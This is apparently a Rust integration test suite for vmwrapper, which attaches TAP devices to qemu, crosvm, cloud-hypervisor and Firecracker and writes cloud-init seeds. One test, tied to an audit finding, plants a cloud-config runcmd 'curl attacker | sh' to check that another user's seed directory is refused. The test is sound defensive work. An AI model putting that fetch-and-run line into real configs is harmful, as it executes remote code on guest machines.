//! vmwrapper's errors a user can act on, without a daemon.

use std::process::Command;
use tapmanager_tests::sandbox::{as_user, bin, Sandbox, TestDir};

#[test]
fn daemon_not_running_names_the_socket_and_says_what_to_do() {
    let sock = std::env::temp_dir().join(format!("tm-no-daemon-{}.sock", std::process::id()));
    let out = Command::new(bin("vmwrapper"))
        .arg("--socket")
        .arg(&sock)
        .args(["--net", "default", "--", "qemu-system-x86_64"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&sock.display().to_string()), "{err}");
    assert!(err.contains("is the daemon running?"), "{err}");
}

/// Audit finding 4: a seed directory another user made first (their `runcmd` in its
/// user-data) is refused by the binary, with the real uid of the user who ran it, before it
/// asks the daemon for anything (no daemon runs here).
#[test]
fn a_cloud_init_directory_another_user_made_is_refused_before_attaching() {
    tapmanager_tests::require_root!();
    use tapmanager_tests::ids::vmwrapper::ATTACKER;
    use tapmanager_tests::ids::vmwrapper::VICTIM;
    let attack = "#cloud-config\nruncmd: [\"curl attacker | sh\"]\n";
    let tmp = TestDir::new("seed-theirs");
    let seed = tmp.join("seed");
    std::fs::create_dir(&seed).unwrap();
    std::fs::write(seed.join("user-data"), attack).unwrap();
    std::os::unix::fs::chown(seed.join("user-data"), Some(ATTACKER), Some(ATTACKER)).unwrap();
    std::os::unix::fs::chown(&seed, Some(ATTACKER), Some(ATTACKER)).unwrap();

    let out = as_user(VICTIM, "", &bin("vmwrapper"))
        .arg("--socket")
        .arg(tmp.join("no-daemon.sock"))
        .arg("--cloud-init")
        .arg(&seed)
        .args(["--net", "default", "--", "qemu-system-x86_64"])
        .output()
        .unwrap();

    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!(
            "--cloud-init {}: is owned by uid {ATTACKER}, not you (uid {VICTIM})",
            seed.display()
        )),
        "{err}"
    );
    assert!(!err.contains("daemon"), "refused before connecting: {err}");
    assert_eq!(
        std::fs::read_to_string(seed.join("user-data")).unwrap(),
        attack
    );
    assert!(!seed.join("meta-data").exists());
}

#[test]
fn unknown_hypervisor_and_bad_arguments_are_explained() {
    let out = Command::new(bin("vmwrapper"))
        .args(["--net", "default", "--", "/usr/bin/some-emulator"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("pass --hypervisor (qemu, qemu-nic, cloud-hypervisor, crosvm, firecracker)"),
        "{err}"
    );
    // What a hypervisor cannot take is said before anything is attached.
    let out = Command::new(bin("vmwrapper"))
        .args([
            "--net",
            "default,queues=2",
            "--hypervisor",
            "crosvm",
            "--",
            "crosvm",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("crosvm takes one TAP fd a NIC"));
    let out = Command::new(bin("vmwrapper"))
        .args([
            "--net",
            "default",
            "--hypervisor",
            "firecracker",
            "--",
            "firecracker",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("pass --config-file FILE"));
    let out = Command::new(bin("vmwrapper"))
        .args(["--net", "default,queues=zero", "--", "qemu-system-x86_64"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("usage: vmwrapper"));
}

/// A stand-in hypervisor: prints its argv after `--`-less program name, one per line, then
/// for fds 3 to 9 what they are (`/dev/net/tun` for a TAP).
const STAND_IN: &str = r#"
import os, sys
for a in sys.argv[1:]:
    print("ARG " + a)
for fd in range(3, 10):
    try:
        print("FD %d %s" % (fd, os.readlink("/proc/self/fd/%d" % fd)))
    except OSError:
        pass
"#;

#[test]
fn each_adapter_puts_the_fds_where_its_argv_says() {
    tapmanager_tests::require_root!();
    let sb = Sandbox::with_defaults("adapters", tapmanager_tests::ids::vmwrapper::ADAPTERS_GROUP);
    for (kind, net, want) in [
        (
            "cloud-hypervisor",
            "default,queues=2,mac=02:aa:00:00:00:01",
            vec![
                "ARG --net",
                "ARG fd=[3,4],mac=02:aa:00:00:00:01,num_queues=4",
            ],
        ),
        (
            "crosvm",
            "default,mac=02:aa:00:00:00:02",
            vec!["ARG --net", "ARG tap-fd=3,mac=02:aa:00:00:00:02"],
        ),
        (
            "qemu-nic",
            "default,mac=02:aa:00:00:00:03",
            vec![
                "ARG -nic",
                "ARG tap,fd=3,model=virtio-net-pci,mac=02:aa:00:00:00:03",
            ],
        ),
    ] {
        let out = Command::new(bin("vmwrapper"))
            .arg("--socket")
            .arg(&sb.socket)
            .args(["--id", kind, "--net", net, "--hypervisor", kind, "--"])
            .args(["python3", "-c", STAND_IN, "--given-by-the-user"])
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{kind}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let lines: Vec<&str> = stdout.lines().collect();
        // The user's own arguments first, then the adapter's, exactly.
        let args: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| l.starts_with("ARG "))
            .collect();
        assert_eq!(args[0], "ARG --given-by-the-user", "{kind}");
        assert_eq!(&args[1..], &want[..], "{kind}");
        // Every fd the argv names is a TAP; nothing else is open above 2.
        let fds: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| l.starts_with("FD "))
            .collect();
        let queues = if kind == "cloud-hypervisor" { 2 } else { 1 };
        assert_eq!(fds.len(), queues, "{kind}: {fds:?}");
        for f in fds {
            assert!(f.ends_with("/dev/net/tun"), "{kind}: {f}");
        }
    }
    assert!(sb.all_gone(10));
}

/// A stand-in Firecracker: prints its argv and the config it was given, waits for a line on
/// stdin, then opens each `host_dev_name` as Firecracker does (TUNSETIFF by name with
/// IFF_TAP | IFF_NO_PI | IFF_VNET_HDR), prints what happened, passes the fds to the test over
/// the socket in $FC_SOCKET, and waits for stdin to close.
const FIRECRACKER: &str = r#"
import fcntl, json, os, socket, struct, sys
args = sys.argv[1:]
for a in args:
    print("ARG " + a)
path = args[args.index("--config-file") + 1]
config = json.load(open(path))
print("CONFIG " + json.dumps(config), flush=True)
sys.stdin.readline()
fds = []
for nic in config["network-interfaces"]:
    fd = os.open("/dev/net/tun", os.O_RDWR | os.O_NONBLOCK)
    try:
        fcntl.ioctl(fd, 0x400454CA, struct.pack("16sH", nic["host_dev_name"].encode(), 0x0002 | 0x1000 | 0x4000))
        print("OPENED " + nic["host_dev_name"], flush=True)
        fds.append(fd)
    except OSError as e:
        print("FAILED %s errno %d" % (nic["host_dev_name"], e.errno), flush=True)
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["FC_SOCKET"])
socket.send_fds(s, [b"x"], fds)
sys.stdin.read()
"#;

/// Tries to attach to TAP `name` as uid `uid` in `ns`; the errno, or 0.
fn open_tap_as(ns: &str, uid: u32, name: &str) -> String {
    let script = format!(
        "import fcntl, os, struct\nfd = os.open('/dev/net/tun', os.O_RDWR)\n\
         try:\n    fcntl.ioctl(fd, 0x400454CA, struct.pack('16sH', b'{name}', 0x0002 | 0x1000 | 0x4000))\n    print(0)\n\
         except OSError as e:\n    print(e.errno)\n"
    );
    let out = Command::new("ip")
        .args(["netns", "exec", ns, "setpriv"])
        .arg(format!("--reuid={uid}"))
        .arg(format!("--regid={uid}"))
        .args(["--clear-groups", "/usr/bin/python3", "-c", &script])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// Receives the fds of one SCM_RIGHTS message.
fn recv_fds(stream: &std::os::unix::net::UnixStream) -> Vec<std::os::fd::OwnedFd> {
    use nix::sys::socket::{recvmsg, ControlMessageOwned, MsgFlags};
    use std::os::fd::{AsRawFd, FromRawFd};
    let mut buf = [0u8; 8];
    let mut iov = [std::io::IoSliceMut::new(&mut buf)];
    let mut space = nix::cmsg_space!([std::os::fd::RawFd; 4]);
    let msg = recvmsg::<()>(
        stream.as_raw_fd(),
        &mut iov,
        Some(&mut space),
        MsgFlags::MSG_CMSG_CLOEXEC,
    )
    .expect("recvmsg");
    let mut fds = Vec::new();
    for c in msg.cmsgs().expect("cmsgs") {
        if let ControlMessageOwned::ScmRights(raw) = c {
            // SAFETY: the kernel just installed these fds in this process for us alone.
            fds.extend(
                raw.into_iter()
                    .map(|fd| unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) }),
            );
        }
    }
    fds
}

#[test]
fn firecracker_opens_its_tap_by_name_as_the_caller_and_only_the_caller() {
    tapmanager_tests::require_root!();
    use std::io::{BufRead, Write};
    use std::os::unix::fs::PermissionsExt;
    use tapmanager_tests::ids::vmwrapper::GROUP;
    use tapmanager_tests::ids::vmwrapper::OTHER;
    use tapmanager_tests::ids::vmwrapper::USER;
    let sb = Sandbox::with_defaults("firecracker", GROUP);
    let dir = sb.dir.join("fc");
    std::fs::create_dir_all(&dir).unwrap();
    // Sticky, like /tmp: vmwrapper refuses a cloud-init seed below a directory where others
    // could rename the caller's seed and put theirs in its place.
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let config = dir.join("vm.json");
    let original = r#"{"boot-source": {"kernel_image_path": "/vmlinux"}, "machine-config": {"vcpu_count": 1, "mem_size_mib": 128}}"#;
    std::fs::write(&config, original).unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    let listener = std::os::unix::net::UnixListener::bind(dir.join("fd.sock")).unwrap();
    std::fs::set_permissions(dir.join("fd.sock"), std::fs::Permissions::from_mode(0o777)).unwrap();
    // vmwrapper as the unprivileged caller, in the daemon's namespace (where the TAP is).
    let mut fc = Command::new("ip")
        .args(["netns", "exec", &sb.ns.name, "setpriv"])
        .arg(format!("--reuid={USER}"))
        .arg(format!("--regid={USER}"))
        .arg(format!("--groups={GROUP}"))
        .arg(bin("vmwrapper"))
        .arg("--socket")
        .arg(&sb.socket)
        .args(["--id", "fc", "--hypervisor", "firecracker", "--cloud-init"])
        .arg(dir.join("seed"))
        .args(["--net", "default,mac=02:fc:00:00:00:01", "--"])
        .args([
            "/usr/bin/python3",
            "-c",
            FIRECRACKER,
            "--no-api",
            "--config-file",
        ])
        .arg(&config)
        .env("FC_SOCKET", dir.join("fd.sock"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = fc.stdin.take().unwrap();
    let mut lines = std::io::BufReader::new(fc.stdout.take().unwrap()).lines();
    let mut seen = Vec::new();
    let cfg_line = loop {
        match lines.next() {
            Some(Ok(l)) if l.starts_with("CONFIG ") => break l,
            Some(Ok(l)) => seen.push(l),
            _ => {
                let _ = fc.kill(); // by pid; already dead is fine
                let out = fc.wait_with_output().unwrap();
                panic!(
                    "no config: {seen:?}\n{}",
                    String::from_utf8_lossy(&out.stderr)
                );
            }
        }
    };
    // The config is the user's, with network-interfaces added, read from a memfd.
    let at = seen.iter().position(|l| l == "ARG --config-file").unwrap();
    assert!(seen[at + 1].starts_with("ARG /proc/self/fd/"), "{seen:?}");
    let got: serde_json::Value = serde_json::from_str(&cfg_line["CONFIG ".len()..]).unwrap();
    assert_eq!(got["machine-config"]["mem_size_mib"], 128);
    let nics = got["network-interfaces"].as_array().unwrap();
    assert_eq!(nics.len(), 1);
    assert_eq!(nics[0]["iface_id"], "eth0");
    assert_eq!(nics[0]["guest_mac"], "02:fc:00:00:00:01");
    let tap = nics[0]["host_dev_name"].as_str().unwrap().to_owned();
    assert_eq!(
        std::fs::read_to_string(&config).unwrap(),
        original,
        "the user's file changed"
    );
    // Persistent, owned by the caller; nobody holds it yet, and still no one else may open it.
    let details = sb.ns.ip(&["-d", "link", "show", &tap]);
    assert!(details.contains("persist on"), "{details}");
    assert!(details.contains(&format!("user {USER}")), "{details}");
    assert_eq!(
        open_tap_as(&sb.ns.name, OTHER, &tap),
        "1",
        "another uid got EPERM"
    );
    // Go: Firecracker opens it by name, and the guest on it leases as any other.
    stdin.write_all(b"open\n").unwrap();
    let (conn, _) = listener.accept().unwrap();
    let mut fds = recv_fds(&conn);
    let opened = lines.next().unwrap().unwrap();
    assert_eq!(opened, format!("OPENED {tap}"));
    assert_eq!(fds.len(), 1);
    let vm = tapmanager_tests::fakevm::FakeVm::new(fds.remove(0), [0x02, 0xfc, 0, 0, 0, 1]);
    let lease = vm.dhcp().expect("a lease on the TAP opened by name");
    assert_eq!(lease.router, Some("10.88.0.1".parse().unwrap()));
    // The cloud-init seed has the same lease.
    let seed = std::fs::read_to_string(dir.join("seed/network-config")).unwrap();
    assert!(
        seed.contains(&format!("addresses: [\"{}/24\"]", lease.ip)),
        "{seed}"
    );
    assert!(
        seed.contains("addresses: [\"10.88.0.1\", \"10.88.0.53\"]"),
        "{seed}"
    );
    assert!(std::fs::read_to_string(dir.join("seed/meta-data"))
        .unwrap()
        .contains("instance-id: \"fc\""));
    // Firecracker exits: the persistent TAP goes with the attachment.
    drop(vm);
    drop(stdin);
    let _ = fc.wait();
    assert!(
        sb.all_gone(10),
        "left: {:?} {:?}",
        sb.taps(),
        sb.journal_entries()
    );
    // By name only where the caller can reach it: not from another namespace.
    let out = Command::new(bin("vmwrapper"))
        .arg("--socket")
        .arg(&sb.socket)
        .args([
            "--id",
            "fc2",
            "--hypervisor",
            "firecracker",
            "--net",
            "default",
            "--",
        ])
        .args(["/usr/bin/python3", "-c", "pass", "--config-file"])
        .arg(&config)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("is not in this network namespace"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        sb.all_gone(10),
        "left: {:?} {:?}",
        sb.taps(),
        sb.journal_entries()
    );
}

/// `KEY=value` lines of a networkd file, values of repeated keys joined by a space.
fn networkd_keys(text: &str) -> std::collections::BTreeMap<String, String> {
    let mut m = std::collections::BTreeMap::<String, String>::new();
    for l in text.lines() {
        if let Some((k, v)) = l.split_once('=') {
            m.entry(k.trim().to_owned())
                .and_modify(|e| {
                    e.push(' ');
                    e.push_str(v.trim())
                })
                .or_insert_with(|| v.trim().to_owned());
        }
    }
    m
}

#[test]
fn cloud_init_seeds_of_both_versions_render_with_debians_cloud_init() {
    tapmanager_tests::require_root!();
    let render = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../scripts/cloud-init-render.sh"
    );
    // IPv4 only, then dual stack (issue 14): the same seeds with the IPv6 address beside.
    for dual in [false, true] {
        cloud_init_seeds_render(render, dual);
    }
}

fn cloud_init_seeds_render(render: &str, dual: bool) {
    let networks = tapmanager_tests::sandbox::default_networks();
    let networks = if dual {
        networks.replace(
            "mtu = 1400",
            "mtu = 1400\ngateway6 = \"fd88::1/64\"\ndns6 = [\"fd88::53\"]",
        )
    } else {
        networks
    };
    let sb = Sandbox::new(
        if dual { "cloudinit6" } else { "cloudinit" },
        tapmanager_tests::ids::vmwrapper::CLOUDINIT_GROUP,
        &networks,
    );
    for version in ["1", "2"] {
        let seed = sb.dir.join(format!("seed-v{version}"));
        let mac = format!("02:c1:00:00:00:0{version}");
        let out = Command::new(bin("vmwrapper"))
            .arg("--socket")
            .arg(&sb.socket)
            .args(["--id", &format!("ci{version}"), "--hypervisor", "qemu-nic"])
            .arg("--cloud-init")
            .arg(&seed)
            .args(["--cloud-init-version", version])
            .args(["--net", &format!("default,mac={mac}"), "--"])
            .args(["/usr/bin/python3", "-c", "pass"])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "v{version}: {stderr}");
        let address = stderr
            .split("address ")
            .nth(1)
            .and_then(|s| s.split_whitespace().next())
            .unwrap_or_else(|| panic!("no address in {stderr}"))
            .to_owned();
        assert!(
            address.starts_with("10.88.0.") && address.ends_with("/24"),
            "{address}"
        );
        let network_config = seed.join("network-config");
        let text = std::fs::read_to_string(&network_config).unwrap();
        assert!(text.starts_with(&format!("version: {version}\n")), "{text}");
        // The guest's IPv6 address is its IPv4 host part in the prefix (10.88.0.N: fd88::N).
        let address6 = dual.then(|| {
            let host: u8 = address.split(['.', '/']).nth(3).unwrap().parse().unwrap();
            format!("fd88::{host:x}/64")
        });

        // The file cloud-init's renderer of `kind` writes at `path` below the guest's root.
        let rendered = |kind: &str, path: &str| {
            let out = seed.join(kind);
            let r = Command::new("bash")
                .arg(render)
                .arg(&network_config)
                .arg(kind)
                .arg(&out)
                .output()
                .unwrap();
            assert!(
                r.status.success(),
                "v{version} {kind}: {}\n{text}",
                String::from_utf8_lossy(&r.stderr)
            );
            std::fs::read_to_string(out.join(path)).unwrap_or_else(|e| {
                panic!(
                    "v{version} {kind}: {e}: {}",
                    String::from_utf8_lossy(&r.stdout)
                )
            })
        };
        // systemd-networkd, as cloud-init would write it in the guest.
        let file = rendered("networkd", "etc/systemd/network/10-cloud-init-eth0.network");
        let k = networkd_keys(&file);
        let (addresses, gateways, dns) = match &address6 {
            Some(a6) => (
                format!("{address} {a6}"),
                "10.88.0.1 fd88::1",
                "10.88.0.1 10.88.0.53 fd88::53",
            ),
            None => (address.clone(), "10.88.0.1", "10.88.0.1 10.88.0.53"),
        };
        let want = [
            ("MACAddress", mac.as_str()),
            ("Name", "eth0"),
            ("Address", addresses.as_str()),
            ("Gateway", gateways),
            ("DNS", dns),
            ("Domains", "example.test"),
            ("MTUBytes", "1400"),
            ("DHCP", "no"),
        ];
        // The values of a key in any order (v2 renders the IPv6 gateway's route first).
        let words = |v: &str| {
            let mut w: Vec<String> = v.split_whitespace().map(str::to_owned).collect();
            w.sort();
            w
        };
        for (key, value) in want {
            assert_eq!(
                k.get(key).map(|v| words(v)),
                Some(words(value)),
                "v{version} {key}:\n{file}"
            );
        }

        // ifupdown's interfaces(5), the renderer Debian's cloud-init tries first.
        let file = rendered("eni", "etc/network/interfaces.d/50-cloud-init");
        for line in [
            "iface eth0 inet static".to_owned(),
            format!("address {address}"),
            "mtu 1400".to_owned(),
            "dns-search example.test".to_owned(),
        ] {
            assert!(
                file.lines().any(|l| l.trim() == line),
                "v{version}: no {line:?} in\n{file}"
            );
        }
        assert!(
            file.contains("gateway 10.88.0.1") || file.contains("default gw 10.88.0.1"),
            "v{version}: no default route in\n{file}"
        );
        // Each DNS server on a dns-nameservers line (v1 puts the IPv6 one on the inet6
        // stanza's, v2 every one on each stanza's).
        for server in dns.split_whitespace() {
            assert!(
                file.lines().any(|l| {
                    let l = l.trim();
                    l.starts_with("dns-nameservers ") && l.split_whitespace().any(|w| w == server)
                }),
                "v{version}: DNS server {server} missing in\n{file}"
            );
        }
        if let Some(a6) = &address6 {
            for line in [
                "iface eth0 inet6 static".to_owned(),
                format!("address {a6}"),
                "gateway fd88::1".to_owned(),
            ] {
                assert!(
                    file.lines().any(|l| l.trim() == line),
                    "v{version}: no {line:?} in\n{file}"
                );
            }
        }
    }
    assert!(sb.all_gone(10));
}
